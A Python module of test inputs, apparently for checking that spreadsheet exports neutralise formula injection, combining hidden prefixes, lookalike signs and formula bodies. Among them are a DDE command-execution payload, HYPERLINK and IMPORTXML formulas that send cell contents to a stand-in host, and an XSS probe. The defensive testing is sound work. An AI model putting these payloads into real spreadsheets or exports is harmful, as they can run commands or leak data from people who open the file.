"""What people put into cells to make a spreadsheet calculate, and what only looks like it."""

from __future__ import annotations

from itertools import product

IN_FRONT = (
    *("", " ", "   ", "\t", "\n", "\r", "\r\n", "\t \n", "\x0b", "\x00", "\x1f", "\x7f"),
    *("\u00a0", "\u2003", "\u3000", "\u2028", "\u0085"),
    *("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e"),
    *("\u202e", "\u202a", "\u2066", "\u200f", "\u061c"),
    *("\u3164", "\uffa0", "\u115f", "\u2800", "\ufe0f", "\u034f", "\U000e0020"),
)
"""What programs skip, or people do not see."""

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹢", "﹣", "⁺", "⁻", "₊", "⁼", "−", "\ufb29")

REST = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("https://contoh.id?x="&A1,"Klik")',
    'IMPORTXML(CONCAT("https://contoh.id/?",A1),"//a")',
    "A1;B2",
    "\n1",
)

FORMULAS = tuple(f"{front}{sign}{rest}" for front, sign, rest in product(IN_FRONT, SIGNS, REST))
"""Some three thousand."""

NUMBERS = ("7271014107900001", "+6281234567890", "081234567890", "-5", "0123", "1e5", "2026-11-24", "01/02")
"""What must stay as it is, in every format, to the last character."""

TEXTS = (
    "",
    "Siti Kanari",
    "'",
    "'=1+1",
    "''",
    '"=1+1"',
    'tulis "ya"; lalu, selesai',
    "<script>alert(1)</script>",
    "baris satu\nbaris dua",
    "  di tengah  ",
    "_x0041_",
    "a" + "\u0301" * 5000,
    "\u0301" * 5000,
    "😀" * 100,
    "مرحبا",
    "#REF!",
    "%0A=1",
    "|calc",
    "(=1)",
    "http://contoh.id",
    "mailto:siti@contoh.id",
    "TRUE",
)
"""What people may write."""
